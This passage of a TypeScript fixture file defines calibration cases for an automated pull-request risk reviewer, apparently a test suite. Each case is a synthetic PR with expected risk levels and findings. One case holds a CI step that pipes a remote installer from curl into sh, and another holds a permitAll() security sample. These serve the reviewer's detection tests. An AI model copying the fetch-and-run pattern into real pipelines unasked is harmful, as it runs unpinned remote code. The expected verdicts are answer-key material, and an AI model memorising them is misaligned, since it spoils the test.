      "A maintainer's \"docs: add auto-generated …\" PR adds a page and, whole, the generator scripts under scripts/ that write it, and exports a list the generator reads from an existing module (`const` to `export const`): the code is new tooling the title announces, so pr-claim-mismatch is a low note, not a sign of logic dressed as docs.",
    repo: 'atlas',
    title: 'docs: add auto-generated browser support page',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'scripts/browser-support-detector.ts', head: tsFunctions('detectFeature', 40) },
      { path: 'scripts/generate-browser-support.ts', head: tsFunctions('featureRow', 60) },
      { path: 'src/runes.ts', base: lines("const STATE = ['$state'];", 'const RUNES = [', '  ...STATE,', "  '$effect',", '];', 'export function isRune(name: string): boolean {', '  return RUNES.includes(name);', '}'), head: lines("const STATE = ['$state'];", 'export const RUNES = [', '  ...STATE,', "  '$effect',", '];', 'export function isRune(name: string): boolean {', '  return RUNES.includes(name);', '}') },
      { path: 'docs/browser-support.md', head: lines('# Browser support', '', 'Generated by `scripts/generate-browser-support.ts`.') },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal-newcomer-moves-helpers-between-modules',
    description:
      "A first-time contributor (account 3 years old) splits a long server.go: the ETag helpers move, unchanged, into the package's headers.go; go test and lint green. Moved code is carried, not new code to test: no tests-missing (a replay of a web framework's first contributions counted functions moved from one module to another as untested code).",
    repo: 'relay',
    title: 'refactor: move ETag helpers to headers.go',
    author: { login: 'tidy-gopher', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2023-03-14T00:00:00Z' },
    files: [
      {
        path: 'server.go',
        base: lines('package relay', '', 'import (', '\t"net/http"', '\t"strings"', ')', '', ...GO_SERVE, '', ...GO_ETAG_HELPERS),
        head: lines('package relay', '', 'import (', '\t"net/http"', '\t"strings"', ')', '', ...GO_SERVE),
      },
      {
        path: 'headers.go',
        base: lines('package relay', '', 'import "strings"', '', ...GO_HEADER_HELPERS),
        head: lines('package relay', '', 'import "strings"', '', ...GO_HEADER_HELPERS, '', ...GO_ETAG_HELPERS),
      },
    ],
    checks: GREEN_GO,
    expect: { level: 'low', action: 'comment', noFindings: true, drivers: ['author-trust'], absentDrivers: ['tests-missing'] },
  }),
  pr({
    id: 'cal-newcomer-moves-helpers-and-adds-branch',
    description:
      'The same move, with a new branch in the moved helper (an empty tag is refused): the two new lines are untested code, the moved ones are not; tests-missing counts 2 lines, and a first contribution from an established account with at most ten untested lines stays low (verdict rule first-contribution-effort-only).',
    repo: 'relay',
    title: 'refactor: move ETag helpers to headers.go',
    author: { login: 'tidy-gopher', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2023-03-14T00:00:00Z' },
    files: [
      {
        path: 'server.go',
        base: lines('package relay', '', 'import (', '\t"net/http"', '\t"strings"', ')', '', ...GO_SERVE, '', ...GO_ETAG_HELPERS),
        head: lines('package relay', '', 'import (', '\t"net/http"', '\t"strings"', ')', '', ...GO_SERVE),
      },
      {
        path: 'headers.go',
        base: lines('package relay', '', 'import "strings"', '', ...GO_HEADER_HELPERS),
        head: lines('package relay', '', 'import "strings"', '', ...GO_HEADER_HELPERS, '', ...GO_ETAG_HELPERS.flatMap((l) => (l === '\tvalue = strings.TrimSpace(value)' ? [l, '\tif value == "" {', '\t\treturn "", false', '\t}'] : [l]))),
      },
    ],
    checks: GREEN_GO,
    expect: { level: 'low', action: 'comment', noFindings: true, drivers: ['author-trust', 'tests-missing'] },
  }),
  pr({
    id: 'cal-maintainer-refactor-with-tests',
    description: 'A maintainer extracts a parser into its own module and moves its tests along; CI green.',
    repo: 'atlas',
    title: 'refactor: move query parsing into parse-query.ts',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'src/query/parse-query.ts', head: tsFunctions('parseClause', 8) },
      { path: 'src/query/index.ts', base: tsFunctions('parseClause', 8) + tsFunctions('runQuery', 3), head: `export * from './parse-query.js';\n${tsFunctions('runQuery', 3)}` },
      { path: 'test/query/parse-query.test.ts', additions: 40, deletions: 0 },
      { path: 'test/query/index.test.ts', additions: 2, deletions: 38 },
    ],
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-maintainer-parser-option-condition-fixed',
    description:
      "Modeled on jackson-databind f3fd6e2304 (check-inverted medium before): a maintainer fixes when a naming rule's validator is skipped, `!allowLowerCaseFirstChar && !allowNonLetterFirstChar` to `allowLowerCaseFirstChar && allowNonLetterFirstChar`, with a test. An allow option about a name's first character is a rule of the parser, not a permission: no finding.",
    repo: 'atlas',
    title: 'Fix #512: first-char validator returned null in the non-default case',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'src/main/java/io/northwind/atlas/naming/FirstCharRules.java',
        base: lines('package io.northwind.atlas.naming;', '', 'public final class FirstCharRules {', '    public static NameValidator forNames(boolean allowLowerCaseFirstChar, boolean allowNonLetterFirstChar) {', '        if (!allowLowerCaseFirstChar && !allowNonLetterFirstChar) {', '            return null;', '        }', '        return new NameValidator(allowLowerCaseFirstChar, allowNonLetterFirstChar);', '    }', '}'),
        head: lines('package io.northwind.atlas.naming;', '', 'public final class FirstCharRules {', '    public static NameValidator forNames(boolean allowLowerCaseFirstChar, boolean allowNonLetterFirstChar) {', '        if (allowLowerCaseFirstChar && allowNonLetterFirstChar) {', '            return null;', '        }', '        return new NameValidator(allowLowerCaseFirstChar, allowNonLetterFirstChar);', '    }', '}'),
      },
      { path: 'src/test/java/io/northwind/atlas/naming/FirstCharRulesTest.java', additions: 14, deletions: 0 },
    ],
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-maintainer-limit-error-message-reworded',
    description:
      "Modeled on axios cc3217a612 (security-parsing-changed before): a maintainer rewords the error raised when a response stream is aborted, dropping the maxContentLength value from the message's text; the size check itself is untouched. A message's words handle no request: no finding.",
    repo: 'atlas',
    title: 'fix: clearer error message when the response stream is aborted',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'lib/adapters/stream.js',
        base: lines('export function onAbort(config, reject, request) {', '  if (request.destroyed) {', '    reject(new AtlasError(', "      'maxContentLength size of ' + config.maxContentLength + ' exceeded',", '      AtlasError.ERR_BAD_RESPONSE,', '      config,', '    ));', '  }', '}'),
        head: lines('export function onAbort(config, reject, request) {', '  if (request.destroyed) {', '    reject(new AtlasError(', "      'stream has been aborted',", '      AtlasError.ERR_BAD_RESPONSE,', '      config,', '    ));', '  }', '}'),
      },
      { path: 'test/unit/adapters/stream.test.js', additions: 1, deletions: 1 },
    ],
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-maintainer-docs-example-permit-all',
    description:
      "Modeled on spring-security f5fb127c8c (auth-bypass-added medium twice before): a maintainer adds a reference page with a compiled code sample under docs/…/examples/ whose security configuration lets the home page through with permitAll(). A documentation sample deploys nowhere: the finding stays, low, and the PR is low.",
    repo: 'atlas',
    title: 'Document SPNEGO login with a sample configuration',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'docs/modules/ROOT/pages/servlet/spnego.adoc', head: lines('= SPNEGO login', '', 'The sample below lets the home page through and asks for a ticket elsewhere.', '', 'include::example$spnego/SpnegoConfig.java[]') },
      {
        path: 'docs/modules/ROOT/examples/spnego/SpnegoConfig.java',
        head: lines('package io.northwind.atlas.docs.spnego;', '', '@Configuration', 'public class SpnegoConfig {', '\t@Bean', '\tSecurityFilterChain chain(HttpSecurity http) throws Exception {', '\t\thttp.authorizeHttpRequests((authz) -> authz', '\t\t\t.requestMatchers("/", "/home").permitAll()', '\t\t\t.anyRequest().authenticated());', '\t\treturn http.build();', '\t}', '}'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['auth-bypass-added'] },
  }),
  pr({
    id: 'cal-maintainer-deprecated-forwarder-removed',
    description:
      "Modeled on spring-security 9312fb7004 and 04d95818e3 (auth-check-removed and constant-time-compare-removed mediums before): a maintainer removes a deprecated check(…) that only forwarded to authorize(…), which the class keeps, and swaps a private MessageDigest.isEqual helper for the library's constant-time Utf8.isEqual beside a null test. Authorization code, so the sensitive path keeps it in review, but no check is removed and no comparison weakened: no code finding.",
    repo: 'atlas',
    title: 'Remove deprecated check() and use Utf8#isEqual',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'src/main/java/io/northwind/atlas/authorization/DelegatingAuthorizationManager.java',
        base: lines('package io.northwind.atlas.authorization;', '', 'public final class DelegatingAuthorizationManager<T> implements AuthorizationManager<T> {', '', '\t@Deprecated', '\t@Override', '\tpublic AuthorizationDecision check(Supplier<Authentication> authentication, T object) {', '\t\tAuthorizationResult result = authorize(authentication, object);', '\t\treturn (AuthorizationDecision) result;', '\t}', '', '\t@Override', '\tpublic AuthorizationResult authorize(Supplier<Authentication> authentication, T object) {', '\t\treturn this.delegate.authorize(authentication, object);', '\t}', '}'),
        head: lines('package io.northwind.atlas.authorization;', '', 'public final class DelegatingAuthorizationManager<T> implements AuthorizationManager<T> {', '', '\t@Override', '\tpublic AuthorizationResult authorize(Supplier<Authentication> authentication, T object) {', '\t\treturn this.delegate.authorize(authentication, object);', '\t}', '}'),
      },
      {
        path: 'src/main/java/io/northwind/atlas/authorization/InMemoryTokenStore.java',
        base: lines('package io.northwind.atlas.authorization;', '', 'final class InMemoryTokenStore {', '\tprivate static boolean matchesCode(Grant grant, String token) {', '\t\tToken code = grant.getCode();', '\t\treturn code != null && isEqual(code.getValue(), token);', '\t}', '', '\tprivate static boolean isEqual(String left, String right) {', '\t\treturn left != null && right != null', '\t\t\t\t&& MessageDigest.isEqual(left.getBytes(StandardCharsets.UTF_8), right.getBytes(StandardCharsets.UTF_8));', '\t}', '}'),
        head: lines('package io.northwind.atlas.authorization;', '', 'final class InMemoryTokenStore {', '\tprivate static boolean matchesCode(Grant grant, String token) {', '\t\tToken code = grant.getCode();', '\t\treturn code != null && Utf8.isEqual(code.getValue(), token);', '\t}', '}'),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal-maintainer-large-untested-module',
    description:
      "Modeled on type-checker PRs replayed from a real project: a maintainer adds a 600-line inference module with no test file changed (its tests are snapshot files elsewhere); CI green. Size (0.2) and missing tests (0.2) add up past 0.25, but they are effort, not a chance of harm: low (verdict rule trusted-routine), and not approved for its effort.",
    repo: 'atlas',
    title: 'Extract implicit-attribute inference into a dedicated module',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [{ path: 'src/checker/infer-attributes.ts', head: tsFunctions('inferAttribute', 150, 'return input.trim().toLowerCase();') }],
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true, drivers: ['size', 'tests-missing'] },
  }),
  pr({
    id: 'cal-newcomer-large-untested-module',
    description: 'The same 600-line untested module from a first-time contributor: the trust driver beside size and missing tests keeps it medium.',
    repo: 'atlas',
    title: 'Extract implicit-attribute inference into a dedicated module',
    author: { login: 'new-hand-42', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2019-05-01T00:00:00Z' },
    priorPrs: { total: 1, merged: 0 },
    files: [{ path: 'src/checker/infer-attributes.ts', head: tsFunctions('inferAttribute', 150, 'return input.trim().toLowerCase();') }],
    expect: { level: 'medium', action: ['comment', 'needs_discussion'], noFindings: true, drivers: ['author-trust', 'size', 'tests-missing'] },
  }),
  pr({
    id: 'cal-member-feature-with-tests',
    description: "A member adds CSV export to the reports page with unit tests (~150 lines); CI green.",
    repo: 'atlas',
    title: 'feat(reports): export to CSV',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'src/reports/export-csv.ts', head: tsFunctions('csvCell', 18, "return `\"${input.replaceAll('\"', '\"\"')}\"`;") },
      { path: 'src/reports/report-page.tsx', additions: 12, deletions: 2 },
      { path: 'src/reports/export-csv.test.ts', additions: 64, deletions: 0 },
    ],
    expect: { level: 'low', action: 'approve', noFindings: true },
  }),
  pr({
    id: 'cal-dead-code-removal',
    description: 'A maintainer removes the legacy v1 API client: 12 files, 2,400 lines deleted, nothing added; CI green.',
    repo: 'atlas',
    title: 'chore: remove the v1 API client (deprecated since 3.0)',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: Array.from({ length: 12 }, (_, i) => ({ path: `src/legacy/v1/client-${i}.ts`, status: 'removed' as const, additions: 0, deletions: 200 })),
    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['size', 'tests-missing'] },
  }),
  pr({
    id: 'cal-first-timer-drops-type-ignore-comments',
    description:
      "A first-time contributor (account 4 years old) turns off two of the type checker's rules and drops the `# type: ignore[...]` comments they needed from 12 import lines in two modules: each line's code is unchanged; CI green.",
    repo: 'atlas-py',
    title: 'Disable commonly ignored Pyright rules',
    author: { login: 'jo-hamm', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2022-03-01T00:00:00Z' },
    files: [
      {
        path: 'src/atlas/sessions.py',
        base: lines(...Array.from({ length: 6 }, (_, i) => `from .m${i} import helper_${i}  # type: ignore[reportPrivateUsage]`), '', 'def run():', '    return helper_0()'),
        head: lines(...Array.from({ length: 6 }, (_, i) => `from .m${i} import helper_${i}`), '', 'def run():', '    return helper_0()'),
      },
      {
        path: 'src/atlas/adapters.py',
        base: lines(...Array.from({ length: 6 }, (_, i) => `import mod_${i}  # noqa: F401  # type: ignore[reportUnusedImport]`), '', 'def send():', '    return mod_0.go()'),
        head: lines(...Array.from({ length: 6 }, (_, i) => `import mod_${i}  # noqa: F401`), '', 'def send():', '    return mod_0.go()'),
      },
      { path: 'pyproject.toml', base: lines('[tool.pyright]', 'strict = ["src"]'), head: lines('[tool.pyright]', 'strict = ["src"]', 'reportPrivateUsage = false', 'reportUnusedImport = false') },
    ],
    expect: { level: 'low', action: 'comment', noFindings: true, absentDrivers: ['tests-missing'] },
  }),
  pr({
    id: 'cal-installer-test-data-setup-py',
    description:
      "A maintainer of a Python package installer adds a regression test whose test-data package builds with CMake: tests/data/src/cmake-pkg/setup.py overrides build_ext to run cmake; the functional test installs it; CI green.",
    repo: 'installkit',
    title: 'Test building a package whose build_ext runs cmake',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'tests/data/src/cmake-pkg/setup.py',
        head: lines(
          'import subprocess',
          '',
          'from setuptools import setup',
          'from setuptools.command.build_ext import build_ext',
          '',
          '',
          'class CMakeBuild(build_ext):',
          '    def run(self):',
          "        subprocess.check_call(['cmake', '--version'])",
          '        super().run()',
          '',
          '',
          "setup(name='cmake-pkg', version='0.1', cmdclass={'build_ext': CMakeBuild})",
        ),
      },
      { path: 'tests/functional/test_install_cmake.py', head: lines('def test_install_cmake_pkg(script, data):', "    result = script.pip('install', data.src / 'cmake-pkg')", "    assert 'Successfully installed cmake-pkg' in result.stdout") },
      { path: 'news/13222.bugfix.rst', head: lines('Fix building packages whose ``build_ext`` runs CMake.') },
    ],
    expect: { level: 'low', action: 'approve' },
  }),
  pr({
    id: 'cal-syntax-test-fixture-manifests',
    description:
      "A maintainer of a syntax highlighter adds Go module files as highlighting test fixtures: a go.mod and go.sum under tests/syntax-tests/source/Go/ and their highlighted copies; CI green. The fixtures' modules are no dependency users install.",
    repo: 'catview',
    title: 'Add go.mod and go.sum syntax tests',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: ['source', 'highlighted'].flatMap((kind) => [
      {
        path: `tests/syntax-tests/${kind}/Go/go.mod`,
        head: lines('module example.com/hello', '', 'go 1.22', '', 'require (', '\tgolang.org/x/mod v0.17.0', '\tgolang.org/x/sync v0.7.0', '\tgithub.com/mattn/go-isatty v0.0.20', '\tgithub.com/spf13/cobra v1.8.0', '\tgithub.com/BurntSushi/toml v1.3.2', '\tgolang.org/x/text v0.14.0', ')'),
      },
      {
        path: `tests/syntax-tests/${kind}/Go/go.sum`,
        head: lines(
          'golang.org/x/mod v0.17.0 h1:zY54UmvipHiNd+pm+m0x9KhZ9hl1/7QNMyxXbc6ICqA=',
          'golang.org/x/mod v0.17.0/go.mod h1:hTbmBsO62+eylJbnUtE2MGJUyE7QWk4xUqPFrRgJ+7c=',
          'golang.org/x/sync v0.7.0 h1:YsImfSBoP9QPYL0xyKJPq0gcaJdG3rInoqxTWbfQu9M=',
          'golang.org/x/sync v0.7.0/go.mod h1:Czt+wKu1gCyEFDUtn0jG5QVvpJ6rzVqr5aXyt9drQfk=',
          'github.com/mattn/go-isatty v0.0.20 h1:xfD0iDuEKnDkl03q4limB+vH+GxLEtL/jb4xVJSWWEY=',
          'github.com/mattn/go-isatty v0.0.20/go.mod h1:W+V8PltTTMOvKvAeJH7IuucS94S2C6jfK/D7dTCTo3Y=',
        ),
      },
    ]),
    expect: { level: 'low', action: 'approve' },
  }),
  pr({
    id: 'cal-comment-only-edit',
    description: 'A contributor rewrites doc comments in a source file, no code changes; CI green.',
    repo: 'atlas',
    title: 'docs: clarify retry semantics in comments',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'src/net/retry.ts',
        base: lines('// Retries a call.', 'export async function retry<T>(fn: () => Promise<T>, times = 3): Promise<T> {', '  // try again', '  for (let i = 0; ; i += 1) {', '    try { return await fn(); } catch (e) { if (i + 1 >= times) throw e; }', '  }', '}'),
        head: lines(
          '/**',
          ' * Calls `fn` until it resolves, at most `times` attempts in all.',
          ' * The last error is rethrown unchanged; there is no delay between attempts.',
          ' */',
          'export async function retry<T>(fn: () => Promise<T>, times = 3): Promise<T> {',
          '  // Attempt i + 1 of times; the loop ends by return or throw.',
          '  for (let i = 0; ; i += 1) {',
          '    try { return await fn(); } catch (e) { if (i + 1 >= times) throw e; }',
          '  }',
          '}',
        ),
      },
    ],
    expect: { ...LOW_APPROVE, noFindings: true, absentDrivers: ['tests-missing'], absentRecommendations: ['add-tests', 'security-review'] },
  }),
  pr({
    id: 'cal-helm-charts-repo-adds-probes',
    description:
      'In a repository of Helm charts (its name says so), a maintainer adds liveness and readiness probes to one chart and bumps its version; CI green. The charts are the product there, changed in every PR: their infrastructure hit weighs half (an application repository\'s chart keeps the full weight).',
    repo: 'helm-charts',
    title: '[ipmi-exporter] add healthchecks',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'charts/ipmi-exporter/Chart.yaml', base: lines('apiVersion: v2', 'name: ipmi-exporter', 'description: Prometheus exporter for IPMI devices', 'type: application', 'version: 0.8.1', 'appVersion: "1.10.1"'), head: lines('apiVersion: v2', 'name: ipmi-exporter', 'description: Prometheus exporter for IPMI devices', 'type: application', 'version: 0.9.0', 'appVersion: "1.10.1"') },
      { path: 'charts/ipmi-exporter/templates/deployment.yaml', base: lines('apiVersion: apps/v1', 'kind: Deployment', 'metadata:', '  name: {{ include "ipmi-exporter.fullname" . }}', 'spec:', '  template:', '    spec:', '      containers:', '        - name: exporter', '          image: "{{ .Values.image.repository }}:{{ .Values.image.tag }}"', '          ports:', '            - containerPort: 9290'), head: lines('apiVersion: apps/v1', 'kind: Deployment', 'metadata:', '  name: {{ include "ipmi-exporter.fullname" . }}', 'spec:', '  template:', '    spec:', '      containers:', '        - name: exporter', '          image: "{{ .Values.image.repository }}:{{ .Values.image.tag }}"', '          ports:', '            - containerPort: 9290', '          livenessProbe:', '            httpGet:', '              path: /', '              port: 9290', '          readinessProbe:', '            httpGet:', '              path: /', '              port: 9290') },
    ],
    checks: GREEN_PY,
    expect: LOW_APPROVE,
  }),
  pr({
    id: 'cal-dockerfile-template-comments-only',
    description:
      "A maintainer rewrites the comments at the top of the project's release Dockerfile template (where the builder and runner images come from, with example tags); no instruction changes; CI green. A Dockerfile's comment lines run nothing; its parser directives (# syntax= picks the BuildKit frontend image) would count as code.",
    repo: 'webframe',
    title: 'phx.gen.release: document where the images come from',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'priv/templates/gen.release/Dockerfile.eex',
        base: lines('# Find eligible builder and runner images on Docker Hub.', '# https://hub.docker.com/r/hexpm/elixir/tags', 'ARG BUILDER_IMAGE="hexpm/elixir:<%= elixir_vsn %>-debian-slim"', 'ARG RUNNER_IMAGE="debian:bookworm-slim"', 'FROM ${BUILDER_IMAGE} AS builder', 'RUN mix release', 'FROM ${RUNNER_IMAGE}', 'COPY --from=builder /app/_build/prod/rel ./', 'CMD ["/app/bin/server"]'),
        head: lines('# This file is based on these images:', '#   - https://hub.docker.com/r/hexpm/elixir/tags - for the builder image', '#   - https://hub.docker.com/_/debian/tags - for the runner image', 'ARG BUILDER_IMAGE="hexpm/elixir:<%= elixir_vsn %>-debian-slim"', 'ARG RUNNER_IMAGE="debian:bookworm-slim"', 'FROM ${BUILDER_IMAGE} AS builder', 'RUN mix release', 'FROM ${RUNNER_IMAGE}', 'COPY --from=builder /app/_build/prod/rel ./', 'CMD ["/app/bin/server"]'),
      },
    ],
    expect: { ...LOW_APPROVE, absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal-ci-matrix-bump',
    description: 'A maintainer moves the CI test matrix from Node 18/20 to 20/22; CI green.',
    repo: 'atlas',
    title: 'ci: test on Node 20 and 22, drop 18',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/test.yml',
        base: lines('name: test', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', '        node: [18, 20]', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af # v4.1.0', '        with:', '          node-version: ${{ matrix.node }}', '      - run: npm ci', '      - run: npm test'),
        head: lines('name: test', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', '        node: [20, 22]', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af # v4.1.0', '        with:', '          node-version: ${{ matrix.node }}', '      - run: npm ci', '      - run: npm test'),
      },
    ],
    checks: [{ name: 'test (20)' }, { name: 'test (22)' }],
    expect: { ...LOW_APPROVE, noFindings: true, absentRecommendations: ['security-review'] },
  }),
  pr({
    id: 'cal-ci-free-threaded-env-step',
    description:
      'A maintainer adds a free-threaded Python to the test matrix and a step, run only for it, that appends the constant line PYTHON_GIL=0 to GITHUB_ENV; CI green. A step that writes constant NAME=value lines runs nothing new (a variable that makes later steps load code, LD_PRELOAD or PYTHONPATH, would be a change of what runs).',
    repo: 'atlas',
    title: 'Test on Python 3.14 free-threaded',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/ci.yml',
        base: lines('name: ci', 'on: [push, pull_request]', 'jobs:', '  tests:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', '        python: ["3.13", "3.14"]', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-python@v5', '        with:', '          python-version: ${{ matrix.python }}', '      - run: python -m pip install nox', '      - run: python -m nox -s test-${{ matrix.python }}'),
        head: lines('name: ci', 'on: [push, pull_request]', 'jobs:', '  tests:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', '        python: ["3.13", "3.14", "3.14t"]', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-python@v5', '        with:', '          python-version: ${{ matrix.python }}', '      - name: Set PYTHON_GIL', "        if: endsWith(matrix.python, 't')", '        run: |', '          echo "PYTHON_GIL=0" >> "$GITHUB_ENV"', '      - run: python -m pip install nox', '      - run: python -m nox -s test-${{ matrix.python }}'),
      },
    ],
    checks: GREEN_PY,
    expect: LOW_APPROVE,
  }),
  pr({
    id: 'cal-ci-npm-install-to-npm-ci',
    description:
      'A maintainer splits the assets job step "cd assets; npm install; npm test" into "npm ci" and "npm test" (the job already works in assets/), so CI installs what package-lock.json pins; CI green. An install the workflow ran, now kept to the lockfile, runs nothing new; the reverse (npm ci to npm install, the lockfile let go) would weigh.',
    repo: 'webframe',
    title: 'Use locked npm dependencies in CI',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/ci.yml',
        base: lines('name: ci', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  assets:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-node@v4', '        with:', '          node-version: 22', '      - name: npm install and test', '        run: |', '          cd assets', '          npm install', '          npm test'),
        head: lines('name: ci', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  assets:', '    runs-on: ubuntu-latest', '    defaults:', '      run:', '        working-directory: assets', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-node@v4', '        with:', '          node-version: 22', '      - name: Install locked npm dependencies', '        run: npm ci', '      - name: Run tests', '        run: npm test'),
      },
    ],
    checks: GREEN_PY,
    expect: LOW_APPROVE,
  }),
  pr({
    id: 'cal-ci-docs-step-for-new-release-line',
    description:
      'A maintainer adds to the documentation workflow a step that builds the docs of the new 3.2 release line, written as the step for 3.1 is (gem install with a "< 3.3" bound, unpack, cd into toolkit-3.2*, rdoc into docs/3.2); CI green. A step the workflow runs, for another version, runs nothing new; a quoted "<" is text, not a redirection.',
    repo: 'toolkit',
    title: 'Generate 3.2 documentation',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/documentation.yml',
        base: lines('name: documentation', 'on:', '  push:', '    branches: [main]', '  workflow_dispatch:', 'permissions:', '  contents: read', 'jobs:', '  docs:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: ruby/setup-ruby@v1', '        with:', '          bundler-cache: true', '      - run: bundle exec rdoc --op docs/main --main README.md', '      - name: "Generate 3.1 documentation"', `        run: 'gem install toolkit --version "< 3.2" && gem unpack toolkit -v "< 3.2" && cd toolkit-3.1* && bundle exec rdoc --op ../docs/3.1 --main README.md'`),
        head: lines('name: documentation', 'on:', '  push:', '    branches: [main]', '  workflow_dispatch:', 'permissions:', '  contents: read', 'jobs:', '  docs:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: ruby/setup-ruby@v1', '        with:', '          bundler-cache: true', '      - run: bundle exec rdoc --op docs/main --main README.md', '      - name: "Generate 3.2 documentation"', `        run: 'gem install toolkit --version "< 3.3" && gem unpack toolkit -v "< 3.3" && cd toolkit-3.2* && bundle exec rdoc --op ../docs/3.2 --main README.md'`, '      - name: "Generate 3.1 documentation"', `        run: 'gem install toolkit --version "< 3.2" && gem unpack toolkit -v "< 3.2" && cd toolkit-3.1* && bundle exec rdoc --op ../docs/3.1 --main README.md'`),
      },
    ],
    checks: GREEN_PY,
    expect: LOW_APPROVE,
  }),
  pr({
    id: 'cal-ci-diagnostic-step-lists-packages',
    description:
      'A maintainer adds, before the build of each Windows job, a step that prints the MSYS2 packages the runner image has (pacman -Q by its system path, inside a log group) and the compiler version, to debug image changes; CI green. A step that only prints facts about the runner runs nothing new; one that ran a file of the checkout or a tool reading the checkout settings (yarn, make) would be a change of what runs.',
    repo: 'transfer',
    title: 'CI: log preinstalled MSYS2 packages',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/windows.yml',
        base: lines('name: windows', 'on: [push, pull_request]', 'permissions: {}', 'jobs:', '  msys2:', '    runs-on: windows-latest', '    steps:', '      - uses: msys2/setup-msys2@v2', '      - uses: actions/checkout@v4', '      - run: cmake -B bld -G Ninja && cmake --build bld', '        shell: msys2 {0}'),
        head: lines('name: windows', 'on: [push, pull_request]', 'permissions: {}', 'jobs:', '  msys2:', '    runs-on: windows-latest', '    steps:', '      - name: preinstalled tools', '        shell: bash', "        run: echo '::group::MSYS2 packages'; /c/msys64/usr/bin/pacman.exe -Q || true; echo '::endgroup::'", '      - uses: msys2/setup-msys2@v2', '      - uses: actions/checkout@v4', '      - run: gcc --version', '      - run: cmake -B bld -G Ninja && cmake --build bld', '        shell: msys2 {0}'),
      },
    ],
    checks: GREEN_PY,
    expect: LOW_APPROVE,
  }),
  pr({
    id: 'cal-ci-rustup-installer',
    description:
      "A regular contributor adds a CI job that builds the project's Rust extension on a container without Rust, installed the way rustup's guide says (curl --proto '=https' -sSf https://sh.rustup.rs | sh). The installer is unpinned, so curl-pipe-shell stays as a medium note; it is the vendor's own host over HTTPS, not a stranger's script, so no request for changes.",
    repo: 'atlas',
    title: 'ci: build the native extension on Alpine',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: '.github/workflows/native.yml',
        head: lines(
          'name: native',
          'on: [push, pull_request]',
          'permissions:',
          '  contents: read',
          'jobs:',
          '  alpine:',
          '    runs-on: ubuntu-latest',
          '    container: alpine:3.20',
          '    steps:',
          '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2',
          '      - run: apk add --no-cache curl build-base',
          "      - run: curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal",
          '      - run: $HOME/.cargo/bin/cargo build --release --manifest-path native/Cargo.toml',
        ),
      },
    ],
    checks: [{ name: 'native / alpine' }, { name: 'test' }],
    expect: { level: 'medium', action: 'comment', findings: ['curl-pipe-shell'] },
  }),
  pr({
    id: 'cal-translation-update',
